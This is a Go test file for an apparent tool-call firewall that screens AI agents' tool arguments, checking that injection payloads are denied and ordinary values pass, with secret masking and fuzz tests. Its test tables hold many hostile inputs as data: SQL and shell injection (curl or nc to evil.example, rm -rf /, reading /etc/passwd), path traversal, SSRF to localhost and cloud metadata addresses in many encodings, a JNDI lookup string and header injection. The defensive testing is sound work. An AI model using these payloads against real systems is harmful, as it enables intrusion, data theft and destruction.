package toolcall_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/internal/jsonedit"
	"github.com/ringwall/ringwall/toolcall"
	"github.com/ringwall/ringwall/waf"
)

func registry(t testing.TB, tools ...toolcall.Tool) *toolcall.Registry {
	t.Helper()
	r, err := toolcall.NewRegistry(tools...)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func number(f float64) *float64 { return &f }

var ann = ringwall.Principal{ID: "ann", Tenant: "north", Trust: ringwall.Customer, Roles: []string{"buyer"}}

// decide decides about one call of a tool.
func decide(t testing.TB, cfg toolcall.Config, c toolcall.Case, name, arguments string) toolcall.Decision {
	t.Helper()
	return toolcall.New(cfg).Begin(c).Decide(t.Context(), ringwall.ToolCall{ID: "1", Name: name, Arguments: arguments})
}

// about returns the rule about the tool or its arguments that is against a call: not one
// about where values come from, or what was asked for.
func about(d toolcall.Decision) string {
	for _, rule := range append([]string{d.Rule}, d.Also...) {
		switch rule {
		case "", toolcall.RuleUntrusted, toolcall.RuleUnsourced, toolcall.RuleLink, toolcall.RuleAsked, toolcall.RuleTwo, toolcall.RuleFlow, toolcall.RuleDuplicate, toolcall.RuleRepeated, toolcall.RuleDepth, toolcall.RuleLimit:
		default:
			return rule
		}
	}
	return ""
}

// What is passed on as SQL, a path, an address … by tools of which nobody said anything.
func TestValuesThatCarrySomething(t *testing.T) {
	for _, tt := range []struct{ name, arguments, rule string }{
		{"SQL that breaks out of a name", `{"name":"x' OR '1'='1"}`, toolcall.RuleSQL},
		{"SQL in a search", `{"query":"x' UNION SELECT email, password FROM users --"}`, toolcall.RuleSQL},
		{"SQL in an argument of no known name", `{"zipper":"1; DROP TABLE orders--"}`, toolcall.RuleSQL},
		{"SQL, nested", `{"filters":[{"value":"1' OR 1=1#"}]}`, toolcall.RuleSQL},
		{"a script", `{"display_name":"<script>alert(1)</script>"}`, toolcall.RuleScript},
		{"command substitution", `{"filename":"a$(curl evil.example).txt"}`, toolcall.RuleShell},
		{"backticks", "{\"branch\":\"x`id`\"}", toolcall.RuleShell},
		{"a second command", `{"order_id":"17; rm -rf /"}`, toolcall.RuleShell},
		{"a second command, next to it", `{"order_id":"17;id"}`, toolcall.RuleShell},
		{"a pipe", `{"file":"a.txt | nc evil.example 80"}`, toolcall.RuleShell},
		{"a second command, escaped", `{"file":"a.txt%3bcat /etc/passwd"}`, toolcall.RuleShell},
		{"a shell's own separator", `{"file":"a${IFS}b"}`, toolcall.RuleShell},
		{"upwards", `{"path":"../../etc/passwd"}`, toolcall.RuleTraversal},
		{"upwards in the middle", `{"file_path":"docs/../../secret"}`, toolcall.RuleTraversal},
		{"upwards, in Windows", `{"path":"..\\..\\windows\\win.ini"}`, toolcall.RuleTraversal},
		{"upwards, escaped", `{"path":"%2e%2e%2fetc"}`, toolcall.RuleTraversal},
		{"upwards, escaped twice", `{"path":"%252e%252e%252fetc"}`, toolcall.RuleTraversal},
		{"escaped many times", `{"path":"%2525252525252e"}`, toolcall.RuleTraversal},
		{"upwards, in too many bytes", `{"path":"%c0%ae%c0%ae/etc"}`, toolcall.RuleTraversal},
		{"upwards, in wide letters", `{"path":"．．／etc"}`, toolcall.RuleTraversal},
		{"upwards, when something is taken out", `{"path":"....//....//etc"}`, toolcall.RuleTraversal},
		{"upwards, with parameters", `{"path":"a/..;/b"}`, toolcall.RuleTraversal},
		{"an early end", `{"path":"a.txt%00.png"}`, toolcall.RuleTraversal},
		{"another machine", `{"path":"\\\\evil\\share"}`, toolcall.RuleTraversal},
		{"upwards, in an argument of no known name", `{"thing":"../../etc/passwd"}`, toolcall.RuleTraversal},
		{"this machine", `{"url":"http://127.0.0.1:8080/admin"}`, toolcall.RuleInternal},
		{"this machine by name", `{"url":"http://localhost/"}`, toolcall.RuleInternal},
		{"this machine without a scheme", `{"url":"localhost:6379"}`, toolcall.RuleInternal},
		{"this machine, briefly", `{"url":"http://127.1/"}`, toolcall.RuleInternal},
		{"this machine as a number", `{"url":"http://2130706433/"}`, toolcall.RuleInternal},
		{"this machine in hexadecimal digits", `{"url":"http://0x7f000001/"}`, toolcall.RuleInternal},
		{"this machine in octal digits", `{"url":"http://0177.0.0.1/"}`, toolcall.RuleInternal},
		{"this machine in IPv6", `{"url":"http://[::1]/"}`, toolcall.RuleInternal},
		{"this machine in IPv6 for IPv4", `{"url":"http://[::ffff:127.0.0.1]/"}`, toolcall.RuleInternal},
		{"this machine in NAT64", `{"url":"http://[64:ff9b::7f00:1]/"}`, toolcall.RuleInternal},
		{"this machine in 6to4", `{"url":"http://[2002:7f00:1::]/"}`, toolcall.RuleInternal},
		{"no machine", `{"url":"http://0/"}`, toolcall.RuleInternal},
		{"this machine in round digits", `{"url":"http://①②⑦.⓪.⓪.①/"}`, toolcall.RuleInternal},
		{"the machine's metadata", `{"url":"http://169.254.169.254/latest/meta-data/"}`, toolcall.RuleInternal},
		{"the machine's metadata by name", `{"url":"http://metadata.google.internal/"}`, toolcall.RuleInternal},
		{"the machine's metadata in IPv6", `{"url":"http://[fd00:ec2::254]/"}`, toolcall.RuleInternal},
		{"Azure's", `{"url":"http://168.63.129.16/"}`, toolcall.RuleInternal},
		{"the own network", `{"endpoint":"https://10.1.2.3/"}`, toolcall.RuleInternal},
		{"the own network by name", `{"url":"http://db.corp/"}`, toolcall.RuleInternal},
		{"the own network by one word", `{"url":"http://redis:6379/"}`, toolcall.RuleInternal},
		{"a name that leads to this machine", `{"url":"http://127.0.0.1.nip.io/"}`, toolcall.RuleInternal},
		{"another host before it", `{"url":"http://example.com@127.0.0.1/"}`, toolcall.RuleInternal},
		{"another host before it, with a stroke", `{"url":"http://example.com\\@127.0.0.1/"}`, toolcall.RuleInternal},
		{"a user", `{"url":"https://user:pw@example.com/"}`, toolcall.RuleInternal},
		{"escaped", `{"url":"http://%31%32%37.0.0.1/"}`, toolcall.RuleInternal},
		{"with a tab in it", `{"url":"http://127.0\t.0.1/"}`, toolcall.RuleInternal},
		{"without a stroke", `{"url":"http:/127.0.0.1/"}`, toolcall.RuleInternal},
		{"with other dots", `{"url":"http://127。0。0。1/"}`, toolcall.RuleInternal},
		{"a URL in an argument of no known name", `{"thing":"http://127.0.0.1/"}`, toolcall.RuleInternal},
		{"a second URL", `{"url":"https://example.com/, http://127.0.0.1/"}`, toolcall.RuleInternal},
		{"a second URL right behind", `{"url":"https://example.com,http://127.0.0.1/"}`, toolcall.RuleInternal},
		{"a second URL on a line of its own", `{"links":"https://example.com/\nfile:///etc/passwd"}`, toolcall.RuleScheme},
		{"a host that is none", `{"url":"http://example.com,127.0.0.1/"}`, toolcall.RuleInternal},
		{"a URL for a host", `{"host":"169.254.169.254"}`, toolcall.RuleInternal},
		{"a file", `{"url":"file:///etc/passwd"}`, toolcall.RuleScheme},
		{"another service", `{"url":"gopher://127.0.0.1:6379/_FLUSHALL"}`, toolcall.RuleScheme},
		{"a script for a URL", `{"link":"javascript:alert(1)"}`, toolcall.RuleScheme},
		{"data for a URL", `{"url":"data:text/html,<script>1</script>"}`, toolcall.RuleScheme},
		{"a file, in an argument of no known name", `{"thing":"file:///etc/passwd"}`, toolcall.RuleScheme},
		{"a template", `{"name":"{{7*7}}"}`, toolcall.RuleTemplate},
		{"a template of Java", `{"user":"${jndi:ldap://evil.example/a}"}`, toolcall.RuleTemplate},
		{"a template in an argument of no known name", `{"thing":"${7*7}"}`, toolcall.RuleTemplate},
		{"a header behind an address", `{"to":"a@example.com\r\nBcc: b@example.com"}`, toolcall.RuleHeader},
		{"a header behind an address, escaped", `{"to":["a@example.com%0d%0aBcc:b@example.com"]}`, toolcall.RuleHeader},
		{"a header behind a subject", `{"subject":"Hi\nBcc: b@example.com"}`, toolcall.RuleHeader},
		{"two lines of addresses", `{"recipients":["a@example.com\nb@example.com"]}`, toolcall.RuleHeader},
		{"turned letters", `{"file":"invoice\u202Efdp.exe"}`, toolcall.RuleHidden},
		{"hidden letters", `{"user_id":"ann\u200b"}`, toolcall.RuleHidden},
		{"tags", `{"to":"a@example.com\udb40\udc41"}`, toolcall.RuleHidden},
		{"a joiner between Latin letters", `{"account":"an\u200dn"}`, toolcall.RuleHidden},
		{"a control", `{"id":"a\u0008b"}`, toolcall.RuleHidden},
		{"a hidden letter in a name", `{"to\u200b":"x"}`, toolcall.RuleHidden},
		{"no number", `{"amount":1e309}`, toolcall.RuleNumber},
		{"almost nothing", `{"amount":1e-999}`, toolcall.RuleNumber},
		{"a number without end", `{"amount":1` + strings.Repeat("0", 80) + `}`, toolcall.RuleNumber},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := decide(t, toolcall.Config{Inject: waf.Injection}, toolcall.Case{}, "tool", tt.arguments)
			if d.Decision != ringwall.ToolDeny || d.Rule != tt.rule {
				t.Errorf("%s: %v by %q, want deny by %q", tt.arguments, d.Decision, d.Rule, tt.rule)
			}
			for _, word := range []string{"127.0.0.1", "evil", "passwd", "DROP", d.Rule} {
				if strings.Contains(d.Public, word) {
					t.Errorf("%q says %q", d.Public, word)
				}
			}
		})
	}
}

// What honest people and models write.
func TestHonestValues(t *testing.T) {
	for _, arguments := range []string{
		`{"name":"O'Brien"}`, `{"customer_name":"Miles O'Brien & Sons; Ltd."}`, `{"query":"O'Reilly books"}`, `{"query":"what's new in C++ | C#?"}`,
		`{"title":"SELECT * FROM books"}`, `{"body":"DROP TABLE students; -- it's a joke"}`, `{"sku":"DROP-01"}`, `{"message":"Robert'); DROP TABLE Students;--"}`,
		`{"sql":"SELECT a FROM b WHERE c = 'd' UNION SELECT 1"}`, `{"code":"import os\nos.system('ls; rm x')"}`, `{"command":"cat a.txt | grep b && echo $(date)"}`,
		`{"content":"<script>alert(1)</script> {{7*7}} ${x} ../../etc http://127.0.0.1/"}`,
		`{"path":"/srv/data/report.pdf"}`, `{"path":"src/main.go"}`, `{"path":"a..b/c...d/..e"}`, `{"path":"R&D/AT&T; final (2).xlsx"}`, `{"path":"C:\\Users\\ann\\a.txt"}`, `{"file":"100% sure.txt"}`, `{"file":"résumé – 2026.pdf"}`, `{"path":"./a/b"}`, `{"path":"~/notes.md"}`,
		`{"url":"https://example.com/a?b=c&d='e'#f"}`, `{"url":"www.example.com"}`, `{"url":"example.com:8443/x"}`, `{"url":"http://8.8.8.8/"}`, `{"url":"https://[2606:4700::1111]/"}`, `{"url":"https://example.com/?u=http://127.0.0.1/"}`, `{"url":"https://example.com/@user/video"}`, `{"url":"https://bücher.example/"}`, `{"url":"wss://example.com/socket"}`, `{"url":"git@example.com:a/b.git"}`,
		`{"site":"10"}`, `{"site":"Berlin, Germany"}`, `{"urls":["https://example.com/a,b;c","https://example.org/"]}`, `{"thing":"note: call back"}`, `{"thing":"12:30"}`, `{"thing":"urn:isbn:123"}`, `{"arn":"arn:aws:s3:::bucket"}`, `{"version":"1.2.3"}`,
		`{"to":["Ann <ann@example.com>","b+c@example.com"]}`, `{"subject":"Re: your order\nand more"}`, `{"subject":"To: all of you"}`,
		`{"name":"علی‌رضا"}`, `{"name":"İstanbul'da Öğle"}`, `{"name":"山田 太郎"}`, `{"name":"👩‍🚀 crew ❤️"}`, `{"name":"क्‍ष"}`, `{"id":"a\tb"}`,
		`{"amount":-5.5,"n":1e10,"z":0.000,"big":12345678901234567890}`, `{"price":"$5 {approx}"}`, `{"greeting":"Hi {{name}}"}`, `{"amount":0e5}`,
		`{"user":"root"}`, `{"time":"5 o'clock"}`, `{"note":"ignore my last question"}`, `{"city":"Saint-Jean-d'Angély"}`, `{"label":"P&L; id"}`, `{"label":"Dogs; cat food"}`, `{"name":"Salt & net weight"}`, `{"date":"2026-05-01T10:00:00+02:00"}`, `{"zipper":"it's ok -- really"}`, `{"location":"Room 5 (2nd floor); ask for Bob's key"}`, `{}`,
	} {
		if d := decide(t, toolcall.Config{Inject: waf.Injection}, toolcall.Case{}, "tool", arguments); about(d) != "" {
			t.Errorf("%s: %v by %q: %s", arguments, d.Decision, about(d), d.Public)
		}
	}
}

// What an operator says of arguments holds whatever they are called, and excuses them.
func TestMeaning(t *testing.T) {
	tool := toolcall.Tool{Name: "pay", Annotated: true, Sensitive: []string{"title"}, Payload: []string{"message", "name"}, Arguments: map[string]toolcall.Meaning{
		"amount":      {Min: number(0), Max: number(500)},
		"customer_id": {Equals: "principal.id"},
		"tenant":      {Equals: "principal.tenant"},
		"currency":    {OneOf: []string{"EUR", "USD"}},
		"ref":         {Pattern: "[A-Z]{2}[0-9]+"},
		"memo":        {MaxLength: 5},
		"hook":        {Hosts: []string{"api.example.com", "*.shop.example", "localhost:3000"}, Schemes: []string{"https", "http"}},
		"bucket_url":  {Schemes: []string{"s3"}},
		"file":        {Under: "/srv/data"},
		"lines.*.n":   {Min: number(1)},
		"raw":         {Excused: []string{toolcall.RuleTraversal, toolcall.RuleSQL}},
	}}
	cfg := toolcall.Config{Registry: registry(t, tool), Inject: waf.Injection}
	for _, tt := range []struct{ name, arguments, rule string }{
		{"all is well", `{"amount":12.5,"currency":"EUR","ref":"AB12","memo":"äöüäö","hook":"https://api.example.com/x","file":"/srv/data/a/b.txt","lines":[{"n":1}]}`, ""},
		{"too little", `{"amount":-1}`, toolcall.RuleMeaning},
		{"too much", `{"amount":500.01}`, toolcall.RuleMeaning},
		{"too much, as a text", `{"amount":"501"}`, toolcall.RuleMeaning},
		{"a text for a number", `{"amount":"lots"}`, toolcall.RuleMeaning},
		{"no number", `{"amount":"NaN"}`, toolcall.RuleMeaning},
		{"an object for a number", `{"amount":{"value":1e6}}`, toolcall.RuleMeaning},
		{"true for a number", `{"amount":true}`, toolcall.RuleMeaning},
		{"somebody else", `{"customer_id":"bob"}`, toolcall.RuleBound},
		{"somebody else, as null", `{"customer_id":null}`, toolcall.RuleBound},
		{"several people", `{"customer_id":["ann","bob"]}`, toolcall.RuleBound},
		{"somebody in other letters", `{"customer_id":"Ann"}`, toolcall.RuleBound},
		{"another tenant", `{"tenant":"south"}`, toolcall.RuleBound},
		{"another currency", `{"currency":"GBP"}`, toolcall.RuleMeaning},
		{"another form", `{"ref":"AB12\nX"}`, toolcall.RuleMeaning},
		{"more than the form", `{"ref":"AB12;"}`, toolcall.RuleMeaning},
		{"too long", `{"memo":"äöüäöü"}`, toolcall.RuleMeaning},
		{"another host", `{"hook":"https://evil.example/"}`, toolcall.RuleHost},
		{"a host that ends alike", `{"hook":"https://evilshop.example/"}`, toolcall.RuleHost},
		{"a host that begins alike", `{"hook":"https://api.example.com.evil.example/"}`, toolcall.RuleHost},
		{"a host below", `{"hook":"https://a.shop.example/"}`, ""},
		{"a host of ours that is allowed", `{"hook":"http://localhost:3000/x"}`, ""},
		{"another port of it", `{"hook":"http://localhost:22/x"}`, toolcall.RuleHost},
		{"another scheme", `{"hook":"ftp://api.example.com/"}`, toolcall.RuleScheme},
		{"a user before the host", `{"hook":"https://api.example.com@evil.example/"}`, toolcall.RuleHost},
		{"no URL", `{"hook":5}`, toolcall.RuleHost},
		{"a scheme that is allowed", `{"bucket_url":"s3://bucket/key"}`, ""},
		{"outside", `{"file":"/etc/passwd"}`, toolcall.RuleOutside},
		{"outside by a detour", `{"file":"/srv/data/../../etc"}`, toolcall.RuleOutside},
		{"beside", `{"file":"/srv/database"}`, toolcall.RuleOutside},
		{"at home", `{"file":"~/.ssh/id_rsa"}`, toolcall.RuleOutside},
		{"below it", `{"file":"a/b"}`, ""},
		{"none of a line", `{"lines":[{"n":1},{"n":0}]}`, toolcall.RuleMeaning},
		{"what is excused", `{"raw":"../x' OR '1'='1"}`, ""},
		{"prose that names whom", `{"title":"x' OR '1'='1"}`, toolcall.RuleSQL},
		{"a payload", `{"name":"x' OR '1'='1","message":"../../x"}`, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			arguments := tt.arguments
			if !strings.Contains(arguments, "customer_id") {
				arguments = strings.Replace(arguments, "{", `{"customer_id":"ann",`, 1)
			}
			if !strings.Contains(arguments, "tenant") {
				arguments = strings.Replace(arguments, "{", `{"tenant":"north",`, 1)
			}
			d := decide(t, cfg, toolcall.Case{Principal: ann}, "pay", arguments)
			if about(d) != tt.rule || tt.rule != "" && d.Decision != ringwall.ToolDeny {
				t.Errorf("%s: %v by %q (%v), want %q", arguments, d.Decision, d.Rule, d.Also, tt.rule)
			}
		})
	}
	if d := decide(t, cfg, toolcall.Case{Principal: ann}, "pay", `{"tenant":"north"}`); d.Rule != toolcall.RuleBound {
		t.Errorf("without the argument that names the caller: %v by %q", d.Decision, d.Rule)
	}
	if d := decide(t, cfg, toolcall.Case{}, "pay", `{"tenant":"","customer_id":""}`); d.Rule != toolcall.RuleBound {
		t.Errorf("a caller that nobody knows: %v by %q", d.Decision, d.Rule)
	}
}

func TestMeaningsThatCannotBe(t *testing.T) {
	for _, tt := range []struct {
		path string
		m    toolcall.Meaning
		want string
	}{
		{"/a", toolcall.Meaning{}, "JSON pointer"},
		{"a", toolcall.Meaning{Min: number(2), Max: number(1)}, "more than max"},
		{"a", toolcall.Meaning{MaxLength: -1}, "not negative"},
		{"a", toolcall.Meaning{Equals: "principal.name"}, "want principal.id"},
		{"a", toolcall.Meaning{Pattern: "("}, "pattern"},
		{"a", toolcall.Meaning{Under: "data"}, "absolute directory"},
		{"a", toolcall.Meaning{Under: "/data/.."}, "absolute directory"},
		{"a", toolcall.Meaning{Hosts: []string{"https://x"}}, "want a host"},
		{"a", toolcall.Meaning{Hosts: []string{"*"}}, "want a host"},
		{"a", toolcall.Meaning{Hosts: []string{"EXAMPLE.com"}}, "small letters"},
		{"a", toolcall.Meaning{Excused: []string{"sql"}}, "there is no rule"},
	} {
		_, err := toolcall.NewRegistry(toolcall.Tool{Name: "t", Arguments: map[string]toolcall.Meaning{tt.path: tt.m}})
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %+v: %v, want %q", tt.path, tt.m, err, tt.want)
		}
	}
}

// secrets finds the word "hunter2", whatever is around it.
func secrets(text string) (spans []ringwall.Span) {
	for at := 0; ; {
		i := strings.Index(text[at:], "hunter2")
		if i < 0 {
			return spans
		}
		spans = append(spans, ringwall.Span{Start: at + i, End: at + i + len("hunter2")})
		at += i + 1
	}
}

func TestSecrets(t *testing.T) {
	const arguments = `{"to":"bob","body":"it's \"hunter2\" and hunter2é","list":["a",{"x":"hunter2"}],"n":1}`
	for _, tt := range []struct {
		name    string
		secrets toolcall.Secrets
		want    ringwall.ToolOutcome
		masked  string
	}{
		{"masked", toolcall.SecretsMasked, ringwall.ToolMask, `{"to":"bob","body":"it's \"[masked]\" and [masked]é","list":["a",{"x":"[masked]"}],"n":1}`},
		{"denied", toolcall.SecretsDenied, ringwall.ToolDeny, ""},
		{"allowed", toolcall.SecretsAllowed, ringwall.ToolAllow, ""},
	} {
		d := decide(t, toolcall.Config{Leak: secrets, Secrets: tt.secrets}, toolcall.Case{}, "send", arguments)
		if d.Decision > tt.want || d.Masked != tt.masked || about(d) != map[bool]string{true: "", false: toolcall.RuleSecret}[tt.want == ringwall.ToolAllow] {
			t.Errorf("%s: %v by %q: %s", tt.name, d.Decision, d.Rule, d.Masked)
		}
	}
	if d := decide(t, toolcall.Config{Leak: secrets}, toolcall.Case{}, "send", `{"a long name: hunter2":1}`); d.Decision != ringwall.ToolDeny {
		t.Errorf("a secret for a name: %v", d.Decision)
	}
	r := registry(t, toolcall.Tool{Name: "login", Arguments: map[string]toolcall.Meaning{"password": {Excused: []string{toolcall.RuleSecret}}}})
	if d := decide(t, toolcall.Config{Registry: r, Leak: secrets}, toolcall.Case{}, "login", `{"password":"hunter2"}`); about(d) != "" {
		t.Errorf("a password for a login: %v by %q", d.Decision, d.Rule)
	}
}

// FuzzMeant says that looking at arguments ends, and that masked ones are JSON that has
// nothing of a secret.
func FuzzMeant(f *testing.F) {
	for _, s := range []string{
		`{"to":"hunter2","url":"http://2130706433\\@[::1]","path":"%252e./..;/\u202e","a":[{"hunter2":1e309}]}`, `{"sql":"hunter2hunter2","x":"\ud83d\ude00hunter2\""}`, `{"subject":"a\r\nBcc: x","n":-0.0}`,
		`{"u":"//%31@[fe80::1%25eth0]:80/","id":"$({{x}})"}`, `{"host":"0x7f.1","name":"<% x %>"}`,
	} {
		f.Add(s)
	}
	tool := toolcall.Tool{Name: "t", Arguments: map[string]toolcall.Meaning{"url": {Hosts: []string{"*.example.com"}}, "path": {Under: "/srv"}, "a.*": {Min: number(0)}}}
	r := registry(f, tool)
	f.Fuzz(func(t *testing.T, arguments string) {
		for _, name := range []string{"t", "u"} {
			d := decide(t, toolcall.Config{Registry: r, Inject: waf.Injection, Leak: secrets}, toolcall.Case{}, name, arguments)
			if d.Masked == "" {
				continue
			}
			var doc jsonedit.Doc
			if err := doc.Parse([]byte(d.Masked), jsonedit.Limits{}); err != nil {
				t.Fatalf("%s became %s: %v", arguments, d.Masked, err)
			}
			var v any
			if err := json.Unmarshal([]byte(d.Masked), &v); err != nil || len(secrets(fmt.Sprint(v))) > 0 {
				t.Fatalf("%s became %s, which has a secret: %v", arguments, d.Masked, err)
			}
		}
	})
}

// FuzzMasked says that nothing of a span stays, and all else.
func FuzzMasked(f *testing.F) {
	f.Add("some text é with words", 3, 7, 5, 12)
	f.Add("abc", -1, 100, 2, 1)
	f.Fuzz(func(t *testing.T, text string, a, b, c, d int) {
		got := toolcall.Masked(text, []ringwall.Span{{Start: a, End: b}, {Start: c, End: d}})
		rest := text
		for _, part := range strings.Split(got, "[masked]") {
			i := strings.Index(rest, part)
			if i < 0 {
				t.Skip("the text has a mask in it")
			}
			rest = rest[i+len(part):]
		}
		covered := make([]bool, len(text))
		for _, sp := range [][2]int{{a, b}, {c, d}} {
			for i := max(sp[0], 0); i < min(sp[1], len(text)); i++ {
				covered[i] = true
			}
		}
		left := 0
		for _, c := range covered {
			if !c {
				left++
			}
		}
		if kept := len(got) - strings.Count(got, "[masked]")*len("[masked]"); !strings.Contains(text, "[masked]") && kept > left {
			t.Fatalf("%q became %q: %d bytes are kept of %d", text, got, kept, left)
		}
	})
}
